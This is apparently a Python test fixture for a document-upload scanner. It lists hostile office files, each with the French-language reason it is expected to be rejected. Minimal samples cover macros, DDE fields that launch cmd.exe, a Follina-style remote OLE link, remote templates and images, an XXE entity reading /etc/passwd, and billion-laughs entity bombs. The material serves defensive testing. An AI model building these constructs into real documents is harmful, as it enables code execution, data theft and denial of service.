"""Documents of word processors that run, read elsewhere, or start programs."""

from __future__ import annotations

from tests.domain.files.hostile.made import (
    RELATIONS,
    SVG,
    WORD,
    HostileFile,
    docx,
    odt,
    pptx,
    related,
    xlsx,
)

LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9))
LAUGHING = f'<!DOCTYPE w [<!ENTITY a0 "ha">{LAUGHS}]><w>&a8;</w>'
OUTSIDE = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&a;</w>'
DECLARED, MACROS, ELSEWHERE = "type de document", "macros", "ailleurs"
FIELD, FORMULA, LINK = "champ", "formule", "lien lance un programme"
MACRO_TYPE = '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
EVENT = "<office:event-listeners><%s:event-listener %s/></office:event-listeners>"


def rels(kind: str, target: str) -> bytes:
    return docx(**{"word/_rels/document.xml.rels": related(kind, target)})


def field(*pieces: str) -> bytes:
    """A field of Word, its instruction in several pieces."""
    said = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "end"))
    return docx(f"<w:p>{begin}{said}{end}</w:p>")


def field_part(instruction: str) -> str:
    """Another part of such a document, with a field."""
    return f'<w:a xmlns:w="{WORD}"><w:instrText>{instruction}</w:instrText></w:a>'


def cell(formula: str) -> bytes:
    return xlsx(xl__worksheets__sheet1___xml=f"<s><row><c><f>{formula}</f><v>1</v></c></row></s>")


def framed(href: str) -> bytes:
    return odt(f'<draw:frame><draw:image xlink:href="{href}"/></draw:frame>')


HOSTILE = (
    HostileFile("docx: macros", "a.docx", lambda: docx(word__vbaProject___bin=b"x"), MACROS),
    HostileFile(
        "docx: macros, declared only",
        "a.docx",
        lambda: docx(types='<Default ContentType="application/vnd.ms-office.vbaProject"/>'),
        MACROS,
    ),
    HostileFile("docx: macros, related", "a.docx", lambda: rels("vbaProject", "a.bin"), MACROS),
    HostileFile("docx: ActiveX", "a.docx", lambda: docx(word__activeX__a___xml="<a/>"), MACROS),
    HostileFile(
        "xlsx: macros of before", "a.xlsx", lambda: xlsx(xl__macrosheets__a___xml="<a/>"), MACROS
    ),
    HostileFile(
        "docx: an OLE object",
        "a.docx",
        lambda: docx(word__embeddings__oleObject1___bin=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        "objet d’un autre logiciel",
    ),
    HostileFile(
        "docx: a template from elsewhere",
        "a.docx",
        lambda: rels("attachedTemplate", "https://e.example/a.dotm"),
        ELSEWHERE,
    ),
    HostileFile(
        "docx: a template of a server",
        "a.docx",
        lambda: rels("attachedTemplate", "file://e.example/a.dotm"),
        ELSEWHERE,
    ),
    HostileFile(
        "docx: an image from elsewhere",
        "a.docx",
        lambda: rels("image", "https://e.example/a.png"),
        ELSEWHERE,
    ),
    HostileFile(
        "docx: an image of a server", "a.docx", lambda: rels("image", "\\\\e\\a"), ELSEWHERE
    ),
    HostileFile(
        "docx: an object that is a page (Follina)",
        "a.docx",
        lambda: rels("oleObject", "https://e.example/a.html!"),
        ELSEWHERE,
    ),
    HostileFile(
        "docx: a link to a program", "a.docx", lambda: rels("hyperlink", "ms-msdt:/id x"), LINK
    ),
    HostileFile(
        "docx: a link to a script", "a.docx", lambda: rels("hyperlink", "java%73cript:a()"), LINK
    ),
    HostileFile("docx: a DDE field", "a.docx", lambda: field(" DDEAUTO c:\\\\cmd.exe "), FIELD),
    HostileFile(
        "docx: a DDE field in pieces", "a.docx", lambda: field(" D", "DE", "AUTO cmd"), FIELD
    ),
    HostileFile("docx: a DDE field by numbers", "a.docx", lambda: field(" QUOTE 68 68 69 "), FIELD),
    HostileFile(
        "docx: a field that brings in a file",
        "a.docx",
        lambda: field(' INCLUDETEXT "\\\\\\\\e.example\\\\a" '),
        FIELD,
    ),
    HostileFile(
        "docx: a field that brings in an image",
        "a.docx",
        lambda: docx('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://e.example/a "/></w:p>'),
        FIELD,
    ),
    HostileFile(
        "docx: a page in the document",
        "a.docx",
        lambda: docx('<w:altChunk w:id="r1"/>'),
        "altChunk",
    ),
    HostileFile(
        "docx: an added program",
        "a.docx",
        lambda: docx(word__webextensions__taskpanes___xml="<a/>"),
        "programme",
    ),
    HostileFile(
        "docx: an image drawn from elsewhere",
        "a.docx",
        lambda: docx(word__a___vml='<v:imagedata src="https://e.example/a.png"/>'),
        ELSEWHERE,
    ),
    HostileFile("docx: a page embedded", "a.docx", lambda: docx(word__a___html="<a>"), "page"),
    HostileFile("docx: a script embedded", "a.docx", lambda: docx(word__a___js="a()"), "programme"),
    HostileFile("docx: a rich text embedded", "a.docx", lambda: docx(word__a___rtf="{"), "page"),
    HostileFile(
        "docx: a drawing that acts",
        "a.docx",
        lambda: docx(word__media__a___svg='<svg xmlns="http://www.w3.org/2000/svg" onload="a()"/>'),
        "tout seul",
    ),
    HostileFile(
        "docx: a drawing from elsewhere",
        "a.docx",
        lambda: docx(
            word__media__a___svg=(
                '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://e.example/"/></svg>'
            )
        ),
        ELSEWHERE,
    ),
    HostileFile(
        "docx: a link to a program of the disk",
        "a.docx",
        lambda: rels("hyperlink", "file:///c:/windows/cmd.exe"),
        LINK,
    ),
    HostileFile("docx: macros under its name", "a.docx", lambda: docx(types=MACRO_TYPE), MACROS),
    HostileFile("xlsx: DDE in a formula", "a.xlsx", lambda: cell("cmd|'/c calc'!A1"), FORMULA),
    HostileFile(
        "xlsx: a formula that asks elsewhere",
        "a.xlsx",
        lambda: cell("_xlfn.WEBSERVICE(&quot;https://e.example&quot;)"),
        FORMULA,
    ),
    HostileFile(
        "xlsx: a DDE link",
        "a.xlsx",
        lambda: xlsx(xl__externalLinks__a___xml='<e><ddeLink ddeService="cmd"/></e>'),
        "ddeLink",
    ),
    HostileFile(
        "xlsx: data read at opening",
        "a.xlsx",
        lambda: xlsx(xl__connections___xml='<c><connection refreshOnLoad="1"/></c>'),
        ELSEWHERE,
    ),
    HostileFile(
        "pptx: a click starts a program",
        "a.pptx",
        lambda: pptx(ppt__slides__slide1___xml='<s><hlinkClick action="ppaction://program"/></s>'),
        "clic lance un programme",
    ),
    HostileFile("docx: billion laughs", "a.docx", lambda: docx(word__a___xml=LAUGHING), DECLARED),
    HostileFile("docx: an outside entity", "a.docx", lambda: docx(word__a___xml=OUTSIDE), DECLARED),
    HostileFile(
        "docx: billion laughs in UTF-16",
        "a.docx",
        lambda: docx(word__a___xml=LAUGHING.encode("utf-16")),
        DECLARED,
    ),
    HostileFile(
        "docx: macros declared in UTF-16",
        "a.docx",
        lambda: docx(
            word__a___rels=(
                f'<R xmlns="{RELATIONS}"><Relationship Type="x/vbaProject" Target="a"/></R>'
            ).encode("utf-16")
        ),
        MACROS,
    ),
    HostileFile("odt: macros", "a.odt", lambda: odt(Basic__Standard__a___xml="<a/>"), MACROS),
    HostileFile(
        "odt: a script of Python", "a.odt", lambda: odt(Scripts__python__a___py="x"), MACROS
    ),
    HostileFile(
        "odt: something at opening",
        "a.odt",
        lambda: odt(EVENT % ("script", 'xlink:href="vnd.sun.star.script:a"')),
        "tout seul",
    ),
    HostileFile(
        "odp: a click starts a program",
        "a.odp",
        lambda: odt(EVENT % ("presentation", 'presentation:action="execute"'), of="presentation"),
        "tout seul",
    ),
    HostileFile(
        "odt: a link to a macro",
        "a.odt",
        lambda: odt('<text:a xlink:href="vnd.sun.star.script:a$b">a</text:a>'),
        LINK,
    ),
    HostileFile(
        "odt: an image from elsewhere", "a.odt", lambda: framed("https://e.example/"), ELSEWHERE
    ),
    HostileFile(
        "odt: an image of a server", "a.odt", lambda: framed("file://e.example/a"), ELSEWHERE
    ),
    HostileFile(
        "odt: a section from elsewhere",
        "a.odt",
        lambda: odt('<text:section-source xlink:href="https://e.example/a.odt"/>'),
        ELSEWHERE,
    ),
    HostileFile(
        "odt: DDE",
        "a.odt",
        lambda: odt('<office:dde-source office:dde-application="soffice"/>'),
        "dde-source",
    ),
    HostileFile("odt: a frame", "a.odt", lambda: odt("<draw:floating-frame/>"), "floating-frame"),
    HostileFile("odt: an applet", "a.odt", lambda: odt('<draw:applet draw:code="a"/>'), "applet"),
    HostileFile(
        "ods: a formula that asks elsewhere",
        "a.ods",
        lambda: odt("<table:table-cell table:formula=\"of:=DDE('a';'b';'c')\"/>", of="spreadsheet"),
        FORMULA,
    ),
    HostileFile(
        "odt: a password",
        "a.odt",
        lambda: odt(**{"META-INF/manifest.xml": "<m><encryption-data xmlns='a'/></m>"}),
        "mot de passe",
    ),
    HostileFile(
        "odt: a script in its text",
        "a.odt",
        lambda: odt(
            '<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>'
        ),
        "script",
    ),
    HostileFile(
        "ods: a cell of another file",
        "a.ods",
        lambda: odt(
            "<table:table-cell table:formula=\"of:='https://e.example/a.ods'#$S.A1\"/>",
            of="spreadsheet",
        ),
        FORMULA,
    ),
    HostileFile("odt: billion laughs", "a.odt", lambda: odt(styles___xml=LAUGHING), DECLARED),
    HostileFile(
        "docx: a document under another name",
        "a.docx",
        lambda: docx(word__other___dat=field_part("DDEAUTO cmd")),
        FIELD,
    ),
    HostileFile(
        "docx: a document drawn",
        "a.docx",
        lambda: docx(word__other___vml=field_part("DDEAUTO cmd").encode("utf-16")),
        FIELD,
    ),
    HostileFile(
        "docx: a page behind a film",
        "a.docx",
        lambda: docx('<a:webVideoPr xmlns:a="a" embeddedHtml="&lt;script>"/>'),
        "webVideoPr",
    ),
    HostileFile(
        "docx: an image from elsewhere, in its text",
        "a.docx",
        lambda: docx(
            '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://e.example/"/>'
        ),
        ELSEWHERE,
    ),
    HostileFile(
        "docx: a field that asks a database", "a.docx", lambda: field(" DATABASE \\c x"), FIELD
    ),
    HostileFile(
        "docx: a field that is a link", "a.docx", lambda: field(' HYPERLINK "javascript:a()"'), LINK
    ),
    HostileFile(
        "docx: a drawing with a script",
        "a.docx",
        lambda: docx(word__media__a___svg=SVG % "<script>a()</script>"),
        "script",
    ),
    HostileFile(
        "docx: a link to a program of a server",
        "a.docx",
        lambda: rels("hyperlink", "\\\\e\\a.exe#b"),
        LINK,
    ),
    HostileFile(
        "docx: recipients from elsewhere",
        "a.docx",
        lambda: docx('<w:connectString w:val="Data Source=\\\\e.example\\a"/>'),
        ELSEWHERE,
    ),
    HostileFile(
        "xlsx: an image that asks elsewhere",
        "a.xlsx",
        lambda: cell("_xlfn.IMAGE(&quot;https://e.example&quot;)"),
        FORMULA,
    ),
    HostileFile(
        "xlsx: a name that calls a program",
        "a.xlsx",
        lambda: xlsx(xl__a___xml='<definedName name="a">CALL("kernel32")</definedName>'),
        FORMULA,
    ),
    HostileFile("odt: a script", "a.odt", lambda: odt("<text:script>a()</text:script>"), "script"),
    HostileFile(
        "odt: a link to a command",
        "a.odt",
        lambda: odt('<text:a xlink:href="vnd.libreoffice.command:a">a</text:a>'),
        LINK,
    ),
    HostileFile(
        "odt: a form that sends",
        "a.odt",
        lambda: odt('<form:form xlink:href="https://e.example/"/>'),
        "formulaire envoie",
    ),
    HostileFile(
        "odt: a billion blanks", "a.odt", lambda: odt('<text:s text:c="999999999"/>'), "espaces"
    ),
    HostileFile(
        "an older Office",
        "a.docx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "Office plus ancien",
    ),
)
